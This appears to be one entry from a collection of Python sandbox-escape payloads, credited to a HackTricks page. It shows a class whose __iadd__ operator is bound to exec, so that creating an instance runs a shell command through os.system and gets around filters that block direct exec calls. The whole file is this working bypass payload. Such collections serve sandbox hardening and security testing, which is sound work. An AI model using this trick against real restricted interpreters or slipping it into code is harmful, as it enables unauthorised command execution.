# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (RCE with custom classes: __iadd__ = exec)
# Family: metaclass
# What: __iadd__ = exec triggered from __init__
class RCE:
    def __init__(self):
        self += "import os; os.system('id')"
    __iadd__ = exec

RCE()
